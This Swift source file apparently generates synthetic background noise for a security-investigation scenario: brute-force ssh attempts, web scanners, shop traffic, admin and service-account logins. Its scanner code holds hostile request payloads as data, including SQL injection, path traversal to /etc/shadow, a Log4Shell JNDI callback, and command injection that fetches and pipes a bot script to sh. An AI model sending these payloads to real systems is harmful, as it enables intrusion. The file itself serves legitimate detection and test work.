/// What the background did that the ground truth must name: the look-alikes an investigation has to leave out.
struct FleetBackgroundNotes {
    /// Every Internet address that guessed ssh passwords (none succeeded).
    var bruteForceSources: Set<IPv4> = []
    var bruteForceConnections = 0
    /// Web scanners that got at least one 200 for a hostile-looking request.
    var scannersAnswered200: Set<IPv4> = []
    var scannerRequests = 0
    /// Benign logins from or to a compromised host after its compromise (users and service accounts at work).
    var benignHopsAfterCompromise: [FleetHop] = []
    /// Benign people who logged in to a compromised host after its compromise.
    var benignAccountsAfterCompromise: Set<String> = []
    /// Internet addresses from which admins logged in, working remotely (home, travel, on call): valid logins from
    /// the Internet, some new, with root shells and hops, that are not the attacker's.
    var remoteWorkSources: Set<IPv4> = []
}

/// The fleet's background: hostile Internet noise on every exposed service, people working through the
/// jump host, service accounts, configuration management, cron, and the network's own chatter. Nothing here
/// depends on the story except what must stay true (the attacker's addresses are never reused, an account
/// the attacker owns is never used by anyone else, a person whose password was stolen is away afterwards).
///
/// Each part of each hour has its own random stream, so the volume of one never moves another.
struct FleetBackground {
    let fleet: Fleet
    let seed: UInt64
    let windowStart: Micros
    let windowEnd: Micros
    let scale: Double
    let facts: FleetFacts
    let attackerAddresses: Set<IPv4>
    var notes = FleetBackgroundNotes()

    init(fleet: Fleet, seed: UInt64, windowStart: Micros, days: Int, scale: Double, facts: FleetFacts) {
        self.fleet = fleet
        self.seed = seed
        self.windowStart = windowStart
        self.windowEnd = windowStart + Micros(days) * microsPerDay
        self.scale = scale
        self.facts = facts
        self.attackerAddresses = Set(facts.attackerAddresses)
    }

    func internet(_ r: inout ScenarioRandom) -> IPv4 {
        while true {
            let a = InternetAddress.random(&r)
            if !attackerAddresses.contains(a) { return a }
        }
    }

    static func port(_ r: inout ScenarioRandom) -> Int { r.int(32_768...60_999) }

    /// Work hours carry the people; this is the share of the day's activity in each hour (UTC).
    static let dayShape: [Double] = [
        0.25, 0.2, 0.15, 0.15, 0.2, 0.3, 0.5, 0.8, 1.2, 1.5, 1.6, 1.6, 1.4, 1.5, 1.6, 1.6, 1.5, 1.3, 1.1, 1.0, 0.9,
        0.7, 0.5, 0.35,
    ]

    // MARK: Every hour

    mutating func hour(_ hour: Int, emitter e: inout FleetEmitter) {
        let start = windowStart + Micros(hour) * microsPerHour
        let hod = hour % 24
        if hod == 0 { day(hour / 24, emitter: &e) }
        bruteForce(hour, start: start, e: &e)
        scanners(hour, start: start, e: &e)
        visitors(hour, start: start, e: &e)
        network(hour, start: start, e: &e)
        windowsHour(hour, start: start, e: &e)
        var r = ScenarioRandom(seed, 0xC0, UInt64(hour))
        for h in fleet.linuxHosts {
            let role = fleet.hosts[h].role
            if role == .jump || role == .web || role == .ci || role == .monitoring {
                e.cron(
                    host: h, start + 17 * microsPerMinute + Micros(r.int(0...900_000)),
                    command: "cd / && run-parts --report /etc/cron.hourly", duration: Micros(r.int(5_000...90_000)),
                    random: &r)
            }
            if role == .web {
                for minute in [9, 39] {
                    e.cron(
                        host: h, start + Micros(minute) * microsPerMinute + Micros(r.int(0...900_000)),
                        command:
                            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
                        duration: Micros(r.int(5_000...60_000)), random: &r)
                }
            }
        }
    }

    /// Password guessing against the jump host's ssh from the whole Internet, all day and night. Nobody
    /// gets in.
    mutating func bruteForce(_ hour: Int, start: Micros, e: inout FleetEmitter) {
        var r = ScenarioRandom(seed, 0xB1, UInt64(hour))
        let names = [
            "root", "root", "root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "git", "pi", "ftpuser",
            "guest", "support", "deploy", "mysql", "hadoop", "jenkins", "ansible", "debian", "centos", "ec2-user",
            "www", "administrator", "nagios", "dev", "temp", "training", "steam", "minecraft", "es", "solana", "sol",
        ]
        let sources = r.poisson(mean: max(6, 25 * scale))
        for _ in 0..<sources {
            let from = internet(&r)
            notes.bruteForceSources.insert(from)
            var t = start + Micros(r.int(0...3_599_000_000))
            let attempts = min(400, 1 + Int(r.exponential(mean: 10)))
            let oneName: String? = r.chance(0.3) ? "root" : nil
            for _ in 0..<attempts {
                let user = oneName ?? r.pick(names)
                let valid =
                    user == "root" || user == "deploy" || user == "ansible" || user == "nagios"
                    || user == fleet.weakAccount
                let tries = r.chance(0.15) ? 0 : (r.chance(0.8) ? 1 : r.int(2...3))
                t = e.sshGuess(
                    host: fleet.jump, user: user, validUser: valid, from: from, port: Self.port(&r), at: t,
                    tries: tries, random: &r)
                notes.bruteForceConnections += 1
                t += Micros(r.int(200_000...12_000_000))
            }
        }
    }

    static let browsers = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    ]

    /// Shop visitors: pages, assets, searches, carts; busier by day.
    mutating func visitors(_ hour: Int, start: Micros, e: inout FleetEmitter) {
        var r = ScenarioRandom(seed, 0xB3, UInt64(hour))
        let count = r.poisson(mean: 120 * scale * Self.dayShape[hour % 24])
        let pages = [
            "/", "/products.php", "/search", "/cart", "/about", "/contact", "/category/shoes", "/category/bags",
        ]
        for _ in 0..<count {
            let client = internet(&r)
            let web = r.pick(fleet.webs)
            let agent = r.pick(Self.browsers)
            var t = start + Micros(r.int(0...3_599_000_000))
            var port = Self.port(&r)
            var referrer = "-"
            for _ in 0..<r.int(1...12) {
                var page = r.pick(pages)
                if page == "/products.php" { page += "?id=" + String(r.int(1...480)) }
                if page == "/search" { page += "?q=" + r.pick(["boots", "red+bag", "sale", "gift", "size+42"]) }
                e.request(
                    web: web, t, client: client, clientPort: port, method: "GET", uri: page, status: 200,
                    bytes: r.int(4_000...40_000), referrer: referrer, userAgent: agent, random: &r)
                for asset in ["/static/app.css", "/static/app.js"] where r.chance(0.3) {
                    e.request(
                        web: web, t + Micros(r.int(50_000...400_000)), client: client, clientPort: port + 1,
                        method: "GET", uri: asset, status: r.chance(0.5) ? 304 : 200, bytes: r.int(0...90_000),
                        referrer: "https://shop.example.com" + page, userAgent: agent, random: &r)
                }
                referrer = "https://shop.example.com" + page
                t += Micros(r.int(2_000_000...90_000_000))
                port = port >= 60_900 ? 33_000 : port + 2
            }
        }
    }

    /// Web scanners of every kind; pages that ignore their parameters answer 200 and lead nowhere.
    mutating func scanners(_ hour: Int, start: Micros, e: inout FleetEmitter) {
        var r = ScenarioRandom(seed, 0xB2, UInt64(hour))
        let sessions = r.poisson(mean: max(1.5, 5 * scale))
        for _ in 0..<sessions {
            let from = internet(&r)
            let kind = r.int(0...6)
            let web = r.pick(fleet.webs)
            var t = start + Micros(r.int(0...3_599_000_000))
            var port = Self.port(&r)
            var answered200 = false
            let count: Int
            let agent: String
            switch kind {
            case 0:
                count = r.int(60...600)
                agent = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:" + String(r.int(100...999)) + ")"
            case 1:
                count = r.int(30...300)
                agent = "sqlmap/1.8.11#stable (https://sqlmap.org)"
            case 2:
                count = r.int(100...900)
                agent = r.chance(0.5) ? "gobuster/3.6" : "Mozilla/5.0 (compatible; ffuf/2.1.0)"
            default:
                count = r.int(2...30)
                agent = r.pick(Self.browsers)
            }
            let callback = internet(&r).description
            for _ in 0..<count {
                let (uri, status, ua) = scannerRequest(kind: kind, callback: callback, agent: agent, r: &r)
                if status == 200 && kind != 2 { answered200 = true }
                e.request(
                    web: web, t, client: from, clientPort: port, method: "GET", uri: uri, status: status,
                    bytes: status == 200 ? r.int(4_000...20_000) : r.int(150...600), userAgent: ua, random: &r)
                notes.scannerRequests += 1
                t += Micros(r.int(20_000...1_500_000))
                port = port >= 60_990 ? 32_768 : port + 1
            }
            if answered200 { notes.scannersAnswered200.insert(from) }
        }
    }

    /// One request of a scanner of `kind`; `callback` is the address its payloads ask the victim to fetch from.
    func scannerRequest(kind: Int, callback: String, agent: String, r: inout ScenarioRandom) -> (String, Int, String) {
        switch kind {
        case 0:  // Nikto: its test paths, mostly missing; a few hit real pages with junk parameters.
            let paths = [
                "/cgi-bin/test-cgi", "/admin/config.php", "/phpinfo.php", "/.htpasswd", "/server-status",
                "/index.php?page=../../../../etc/passwd", "/?mod=<script>alert(document.cookie)</script>",
                "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/wp-config.php.bak", "/backup.tar.gz", "/.git/config",
                "/search?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
            ]
            let p = r.pick(paths)
            let ok = p.hasPrefix("/index.php") || p.hasPrefix("/?") || p.hasPrefix("/search")
            return (p, ok ? 200 : (r.chance(0.1) ? 403 : 404), agent)
        case 1:  // sqlmap against the product page, which ignores what follows the number.
            let payloads = [
                "1%27%20AND%201%3D1--%20-", "1%20union%20select%201,2,concat(user(),0x3a,version())--%20-",
                "1%27%20AND%20SLEEP(5)--%20-", "1)%20AND%20(SELECT%204532%20FROM%20(SELECT(sleep(5)))a)--%20-",
                "1%20ORDER%20BY%2010--%20-", "-3921%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-",
            ]
            return ("/products.php?id=" + r.pick(payloads), r.chance(0.9) ? 200 : 500, agent)
        case 2:  // Dirbusting: a word list, nearly all 404.
            let words = [
                "admin", "backup", "old", "test", "dev", "tmp", "private", "secret", "db", "sql", "dump", "api",
                "v1", "v2", "internalHosts", "manager", "console", "jenkins", "grafana", ".svn", ".env", "config.json",
                "phpmyadmin", "pma", "wp-login.php", "xmlrpc.php", "login", "dashboard", "upload", "files",
            ]
            let w = r.pick(words) + (r.chance(0.3) ? String(r.int(1...99)) : "")
            return ("/" + w, w == "login" ? 200 : 404, agent)
        case 3:  // Log4Shell, in the URL and in the User-Agent.
            let jndi = "${jndi:ldap://" + callback + ":1389/Basic/Command/Base64/d2dldCBodHRw}"
            return (
                r.chance(0.5) ? "/?x=" + jndi.replacingSpaces() : "/", 200, r.chance(0.7) ? jndi : agent
            )
        case 4:  // Path traversal.
            let p = r.pick([
                "/index.php?page=../../../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
                "/download.php?file=../../../../etc/shadow", "/..%252f..%252f..%252fetc/passwd",
            ])
            return (p, p.hasPrefix("/index.php") ? 200 : (r.chance(0.5) ? 400 : 404), agent)
        case 5:  // Command injection that would fetch a bot over http.
            let p = r.pick([
                "/index.php?cmd=wget%20http://" + callback + "/bot.sh%20-O-%7Csh",
                "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://" + callback
                    + "/x)",
                "/shell?cd+/tmp;rm+-rf+*;wget+http://" + callback + "/jaws;sh+/tmp/jaws",
                "/search?q=%3Bwget+http://" + callback + "/a.sh",
            ])
            return (p, p.hasPrefix("/index.php") || p.hasPrefix("/search") ? 200 : 404, agent)
        default:  // WordPress and friends on a shop that is not WordPress.
            let p = r.pick([
                "/wp-login.php", "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/.env",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            ])
            return (p, 404, agent)
        }
    }

    /// DNS, NTP and monitoring: the network's own chatter.
    mutating func network(_ hour: Int, start: Micros, e: inout FleetEmitter) {
        var r = ScenarioRandom(seed, 0xB4, UInt64(hour))
        let dns = fleet.hosts[fleet.dns].address
        let shape = Self.dayShape[hour % 24]
        for h in fleet.linuxHosts where h != fleet.dns {
            for _ in 0..<r.poisson(mean: 30 * scale * shape + 2) {
                e.conn(
                    start + Micros(r.int(0...3_599_000_000)), from: fleet.hosts[h].address, Self.port(&r), to: dns,
                    53, proto: "udp", service: "dns", duration: Micros(r.int(300...4_000)), bytesOut: r.int(30...60),
                    bytesIn: r.int(46...300), state: "SF", history: "Dd", random: &r)
            }
        }
        for h in fleet.windows {
            for _ in 0..<r.poisson(mean: 20 * scale * shape + 2) {
                e.conn(
                    start + Micros(r.int(0...3_599_000_000)), from: fleet.hosts[h].address, Self.port(&r), to: dns,
                    53, proto: "udp", service: "dns", duration: Micros(r.int(300...4_000)), bytesOut: r.int(30...60),
                    bytesIn: r.int(46...300), state: "SF", history: "Dd", random: &r)
            }
        }
        let upstream = [IPv4(9, 9, 9, 9), IPv4(149, 112, 112, 112)]
        for _ in 0..<r.poisson(mean: 60 * scale * shape + 4) {
            e.conn(
                start + Micros(r.int(0...3_599_000_000)), from: dns, Self.port(&r), to: r.pick(upstream), 53,
                proto: "udp", service: "dns", duration: Micros(r.int(4_000...40_000)), bytesOut: r.int(30...60),
                bytesIn: r.int(46...500), state: "SF", history: "Dd", random: &r)
        }
        let ntp = [IPv4(162, 159, 200, 1), IPv4(185, 125, 190, 56)]
        let monitor = fleet.hosts[fleet.monitoring].address
        for h in fleet.hosts.indices {
            let address = fleet.hosts[h].address
            if r.chance(0.5) {
                e.conn(
                    start + Micros(r.int(0...3_599_000_000)), from: address, 123, to: r.pick(ntp), 123, proto: "udp",
                    service: "ntp", duration: Micros(r.int(9_000...40_000)), bytesOut: 48, bytesIn: 48, state: "SF",
                    history: "Dd", random: &r)
            }
            guard h != fleet.monitoring else { continue }
            // Nagios polls every host every five minutes (NRPE on Linux, WinRM-less checks on 5985 on Windows).
            for k in 0..<12 {
                let t = start + Micros(k * 300 + h % 60) * microsPerSecond + Micros(r.int(0...900_000))
                let windows = fleet.hosts[h].role == .windows
                e.conn(
                    t, from: monitor, Self.port(&r), to: address, windows ? 5985 : 5666,
                    service: windows ? "http" : "ssl", duration: Micros(r.int(20_000...300_000)),
                    bytesOut: r.int(300...900), bytesIn: r.int(400...2_000), random: &r)
                if fleet.hosts[h].role == .web {
                    e.request(
                        web: h, t + 500_000, client: monitor, clientPort: Self.port(&r), method: "GET", uri: "/healthz",
                        status: 200, bytes: 2, userAgent: "check_http/v2.3.3 (monitoring-plugins 2.3.3)", random: &r)
                }
            }
        }
    }

    // MARK: Every day

    mutating func day(_ day: Int, emitter e: inout FleetEmitter) {
        let dayStart = windowStart + Micros(day) * microsPerDay
        let weekday = Calendar0.weekday(days: Int(Calendar0.floorDiv(dayStart, microsPerDay)))
        let weekend = weekday == 0 || weekday == 6
        windowsDay(day, dayStart: dayStart, weekend: weekend, e: &e)
        var r = ScenarioRandom(seed, 0xD0, UInt64(day))
        let mirrors = [IPv4(151, 101, 2, 132), IPv4(151, 101, 66, 132)]
        for h in fleet.linuxHosts {
            let t = dayStart + 6 * microsPerHour + 25 * microsPerMinute + Micros(r.int(0...900_000))
            e.cron(
                host: h, t,
                command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
                duration: Micros(r.int(200_000...30_000_000)), random: &r)
            e.conn(
                t + 40 * microsPerSecond, from: fleet.hosts[h].address, Self.port(&r), to: r.pick(mirrors), 80,
                service: "http", duration: Micros(r.int(1_000_000...20_000_000)), bytesOut: r.int(2_000...9_000),
                bytesIn: r.int(200_000...40_000_000), random: &r)
        }
        people(day, dayStart: dayStart, weekend: weekend, e: &e)
        remoteWork(day, dayStart: dayStart, weekend: weekend, e: &e)
        serviceAccounts(day, dayStart: dayStart, weekend: weekend, e: &e)
        configurationManagement(day, dayStart: dayStart, weekend: weekend, e: &e)
    }

    /// A benign login; noted when it touches a host after the attacker got there.
    mutating func login(
        host: Int, user: String, from: Int?, fromAddress: IPv4, auth: FleetAuth, at t: Micros, until end: Micros,
        e: inout FleetEmitter, r: inout ScenarioRandom
    ) {
        e.sshLogin(
            host: host, user: user, from: fromAddress, port: Self.port(&r), auth: auth, at: t, until: end, random: &r)
        guard t < windowEnd else { return }
        let touched = [host, from].compactMap { $0 }.contains { facts.compromisedAt[$0].map { $0 <= t } ?? false }
        guard touched else { return }
        notes.benignAccountsAfterCompromise.insert(user)
        if let from {
            notes.benignHopsAfterCompromise.append(
                FleetHop(from: fleet.hosts[from].name, to: fleet.hosts[host].name, time: t, account: user, auth: auth))
        }
    }

    static let adminCommands = [
        "/usr/bin/apt-get update", "/usr/bin/systemctl status nginx", "/usr/bin/systemctl restart shop",
        "/usr/bin/journalctl -u shop --since today", "/usr/bin/docker ps", "/usr/bin/tail -n 200 /var/log/syslog",
        "/usr/bin/du -sh /var/lib/mysql", "/usr/sbin/ss -tlnp", "/usr/bin/apt-get -y upgrade",
    ]

    /// People at work: VPN → jump host → internalHosts hosts, with sudo for the admins and WinRM to Windows.
    mutating func people(_ day: Int, dayStart: Micros, weekend: Bool, e: inout FleetEmitter) {
        let jump = fleet.jump
        let jumpAddress = fleet.hosts[jump].address
        let internalHosts = fleet.webs + fleet.apps + fleet.dbs
        for (i, user) in fleet.users.enumerated() {
            var r = ScenarioRandom(seed, 0xD1, UInt64(day), UInt64(i))
            guard r.chance(weekend ? 0.1 : 0.85) else { continue }
            for _ in 0..<r.int(1...3) {
                let loginAt =
                    dayStart + Micros(r.int((7 * 3_600 + 1_800)...(19 * 3_600))) * microsPerSecond
                    + Micros(r.int(0...999_999))
                let logout = loginAt + Micros(r.int(600...10_800)) * microsPerSecond
                if let away = facts.absentUser, away.name == user.name, logout >= away.from { continue }
                login(
                    host: jump, user: user.name, from: nil, fromAddress: user.vpnAddress,
                    auth: user.prefersKey ? .key(owner: user.name) : .password, at: loginAt, until: logout, e: &e,
                    r: &r)
                var t = loginAt + Micros(r.int(20...300)) * microsPerSecond
                for _ in 0..<r.int(0...4) {
                    guard t + 120 * microsPerSecond < logout else { break }
                    let novel = user.name != facts.absentUser?.name && r.chance(0.03)
                    let target = novel ? r.pick(internalHosts) : r.pick(user.usualTargets)
                    let end = min(
                        logout - Micros(r.int(5...60)) * microsPerSecond,
                        t + Micros(r.int(60...3_600)) * microsPerSecond)
                    login(
                        host: target, user: user.name, from: jump, fromAddress: jumpAddress,
                        auth: r.chance(user.prefersKey ? 0.9 : 0.2) ? .key(owner: user.name) : .password, at: t,
                        until: end, e: &e, r: &r)
                    if user.isAdmin {
                        var s = t + Micros(r.int(10...120)) * microsPerSecond
                        for _ in 0..<r.int(0...3) where s < end {
                            e.sudo(
                                host: target, s, user: user.name, tty: r.int(0...6), pwd: "/home/" + user.name,
                                command: r.pick(Self.adminCommands), duration: Micros(r.int(200_000...40_000_000)),
                                random: &r)
                            s += Micros(r.int(30...900)) * microsPerSecond
                        }
                    }
                    t = end + Micros(r.int(30...1_200)) * microsPerSecond
                }
                if user.isAdmin && r.chance(0.4) && t < logout {
                    e.conn(
                        t, from: jumpAddress, Self.port(&r), to: fleet.hosts[r.pick(fleet.windows)].address, 5985,
                        service: "http", duration: Micros(r.int(5...900)) * microsPerSecond,
                        bytesOut: r.int(5_000...200_000), bytesIn: r.int(5_000...400_000), random: &r)
                }
                if user.isAdmin && r.chance(0.3) {
                    e.sudo(
                        host: jump, loginAt + Micros(r.int(5...60)) * microsPerSecond, user: user.name,
                        tty: r.int(0...9),
                        pwd: "/home/" + user.name, command: "/usr/bin/systemctl status sshd",
                        duration: Micros(r.int(100_000...900_000)), random: &r)
                }
            }
        }
    }

    /// Two admins who work from outside now and then, straight from the Internet to the jump host: from home (one
    /// address each, kept all week), from a hotel or a phone when travelling (a new address), in the evening or on
    /// call at night. Each becomes root with `sudo -i` and goes on to the hosts they look after, now and then one
    /// they never logged in to. Valid logins from Internet addresses, new ones among them, that are not an attack.
    /// Its own random streams, so the rest of the background is the same with or without it.
    mutating func remoteWork(_ day: Int, dayStart: Micros, weekend: Bool, e: inout FleetEmitter) {
        let admins = fleet.users.filter(\.isAdmin)
        guard admins.count >= 2 else { return }
        var pick = ScenarioRandom(seed, 0xD8)
        let first = pick.int(0...(admins.count - 1))
        let second = (first + 1 + pick.int(0...(admins.count - 2))) % admins.count
        let jump = fleet.jump
        let jumpAddress = fleet.hosts[jump].address
        let internalHosts = fleet.webs + fleet.apps + fleet.dbs
        for (k, user) in [admins[first], admins[second]].enumerated() {
            var home = ScenarioRandom(seed, 0xD8, UInt64(k))
            var homeAddress = internet(&home)
            // The second admin's ISP leases a new address from its pool (one /16) every day, as many home and
            // phone lines do; the first keeps one all week.
            if k == 1 {
                var lease = ScenarioRandom(seed, 0xDA, UInt64(day))
                let pool = homeAddress.value & 0xFFFF_0000
                let candidate = IPv4(value: pool | UInt32(lease.int(256...65_279)))
                if !attackerAddresses.contains(where: { $0.value & 0xFFFF_0000 == pool }) { homeAddress = candidate }
            }
            var r = ScenarioRandom(seed, 0xD9, UInt64(day), UInt64(k))
            guard r.chance(weekend ? 0.5 : 0.6) else { continue }
            let travelling = r.chance(0.25)
            let from = travelling ? internet(&r) : homeAddress
            let onCall = r.chance(0.2)
            let hour = onCall ? r.int(0...4) : r.int(18...22)
            let loginAt = dayStart + Micros(hour * 3_600 + r.int(0...3_599)) * microsPerSecond + Micros(r.int(0...999_999))
            let logout = loginAt + Micros(r.int(900...7_200)) * microsPerSecond
            if let away = facts.absentUser, away.name == user.name, logout >= away.from { continue }
            guard logout < windowEnd else { continue }
            notes.remoteWorkSources.insert(from)
            let port = Self.port(&r)
            login(
                host: jump, user: user.name, from: nil, fromAddress: from,
                auth: user.prefersKey ? .key(owner: user.name) : .password, at: loginAt, until: logout, e: &e, r: &r)
            e.conn(
                loginAt - 300_000, from: from, port, to: jumpAddress, 22, service: "ssh",
                duration: logout - loginAt + 300_000, bytesOut: r.int(20_000...900_000),
                bytesIn: r.int(40_000...4_000_000), random: &r)
            var t = loginAt + Micros(r.int(20...120)) * microsPerSecond
            if r.chance(0.6) {
                e.sudo(
                    host: jump, t, user: user.name, tty: r.int(0...6), pwd: "/home/" + user.name, command: "/bin/bash",
                    duration: Micros(r.int(60...1_800)) * microsPerSecond, random: &r)
                t += Micros(r.int(30...300)) * microsPerSecond
            }
            for _ in 0..<r.int(1...3) {
                guard t + 120 * microsPerSecond < logout else { break }
                let target = r.chance(0.1) ? r.pick(internalHosts) : r.pick(user.usualTargets)
                let end = min(
                    logout - Micros(r.int(5...60)) * microsPerSecond, t + Micros(r.int(60...1_800)) * microsPerSecond)
                login(
                    host: target, user: user.name, from: jump, fromAddress: jumpAddress,
                    auth: r.chance(user.prefersKey ? 0.9 : 0.2) ? .key(owner: user.name) : .password, at: t,
                    until: end, e: &e, r: &r)
                if r.chance(0.5) {
                    e.sudo(
                        host: target, t + Micros(r.int(10...90)) * microsPerSecond, user: user.name, tty: r.int(0...6),
                        pwd: "/home/" + user.name, command: r.chance(0.5) ? "/bin/bash" : r.pick(Self.adminCommands),
                        duration: Micros(r.int(200_000...40_000_000)), random: &r)
                }
                t = end + Micros(r.int(30...600)) * microsPerSecond
            }
        }
    }

    /// deploy and ci from the CI host, dbsync from the backup host: key logins every day.
    mutating func serviceAccounts(_ day: Int, dayStart: Micros, weekend: Bool, e: inout FleetEmitter) {
        var r = ScenarioRandom(seed, 0xD2, UInt64(day))
        let ci = fleet.hosts[fleet.ci].address
        for _ in 0..<(weekend ? r.int(0...1) : r.int(2...5)) {
            var t =
                dayStart + Micros(r.int((9 * 3_600)...(18 * 3_600))) * microsPerSecond
                + Micros(r.int(0...999_999))
            for h in (r.chance(0.5) ? fleet.webs : fleet.apps) {
                let end = t + Micros(r.int(20...90)) * microsPerSecond
                login(
                    host: h, user: "deploy", from: fleet.ci, fromAddress: ci, auth: .key(owner: "deploy"), at: t,
                    until: end, e: &e, r: &r)
                e.sudo(
                    host: h, t + Micros(r.int(3...10)) * microsPerSecond, user: "deploy", tty: -1, pwd: "/srv/shop",
                    command: "/usr/bin/systemctl restart shop", duration: Micros(r.int(800_000...4_000_000)),
                    random: &r)
                t = end + Micros(r.int(5_000_000...40_000_000))
            }
        }
        for _ in 0..<r.int(2...6) {
            let t = dayStart + Micros(r.int((8 * 3_600)...(20 * 3_600))) * microsPerSecond + Micros(r.int(0...999_999))
            login(
                host: r.pick(fleet.apps), user: "ci", from: fleet.ci, fromAddress: ci, auth: .key(owner: "ci"), at: t,
                until: t + Micros(r.int(30...600)) * microsPerSecond, e: &e, r: &r)
        }
        let backup = fleet.hosts[fleet.backup].address
        for db in fleet.dbs {
            let t = dayStart + Micros(90 * 60 + r.int(0...600)) * microsPerSecond + Micros(r.int(0...999_999))
            login(
                host: db, user: "dbsync", from: fleet.backup, fromAddress: backup, auth: .key(owner: "dbsync"), at: t,
                until: t + Micros(r.int(300...1_200)) * microsPerSecond, e: &e, r: &r)
        }
    }

    /// Ansible from the configuration host: a run per host every day, with sudo; now and then a new group, a new
    /// service account, a user added to docker or adm.
    mutating func configurationManagement(_ day: Int, dayStart: Micros, weekend: Bool, e: inout FleetEmitter) {
        var r = ScenarioRandom(seed, 0xD3, UInt64(day))
        // One day early in the week the monitoring agent is rolled out: its account on every host, and deploy
        // joins docker on the app servers.
        let rolloutDay = Int(ScenarioRandom.mix(seed ^ 0xD3) % 2)
        let cfg = fleet.hosts[fleet.config].address
        var t = dayStart + Micros(r.int((10 * 3_600)...(11 * 3_600))) * microsPerSecond + Micros(r.int(0...999_999))
        for h in fleet.linuxHosts where h != fleet.config {
            let end = t + Micros(r.int(20...120)) * microsPerSecond
            login(
                host: h, user: "ansible", from: fleet.config, fromAddress: cfg, auth: .key(owner: "ansible"), at: t,
                until: end, e: &e, r: &r)
            var s = t + Micros(r.int(2...5)) * microsPerSecond
            for _ in 0..<r.int(1...3) {
                e.sudo(
                    host: h, s, user: "ansible", tty: -1, pwd: "/home/ansible",
                    command: "/bin/sh -c echo BECOME-SUCCESS-" + String(r.next() % 1_000_000_007, radix: 36)
                        + " ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-"
                        + String(s / microsPerSecond - Int64(r.int(1...3))) + "." + String(r.int(10...99)) + "-"
                        + String(r.int(1_000...99_999))
                        + "/AnsiballZ_apt.py",
                    duration: Micros(r.int(500_000...9_000_000)), random: &r)
                s += Micros(r.int(5...20)) * microsPerSecond
            }
            if day == rolloutDay {
                e.useradd(host: h, s + 6 * microsPerSecond, account: "node_exporter", uid: 997)
                if fleet.hosts[h].role == .app {
                    e.groupadd(host: h, s + 8 * microsPerSecond, group: "docker", gid: 998)
                    e.usermodAddGroup(host: h, s + 9 * microsPerSecond, account: "deploy", group: "docker")
                }
            }
            if r.chance(weekend ? 0.02 : 0.08) { e.groupadd(host: h, s, group: "docker", gid: 998) }
            if r.chance(0.1) {
                e.usermodAddGroup(
                    host: h, s + 2 * microsPerSecond, account: r.chance(0.5) ? "deploy" : r.pick(fleet.users).name,
                    group: r.chance(0.6) ? "docker" : "adm")
            }
            if r.chance(0.05) {
                let account = r.pick(["prometheus", "fluentbit", "backup-agent", "otel"])
                e.useradd(host: h, s + 4 * microsPerSecond, account: account, uid: 990 - r.int(0...20))
            }
            t = end + Micros(r.int(5_000_000...60_000_000))
        }
    }
}

extension String {
    /// Spaces as `%20`, as a client puts them in a request line.
    func replacingSpaces() -> String {
        var out = ""
        for c in self { out += c == " " ? "%20" : String(c) }
        return out
    }
}
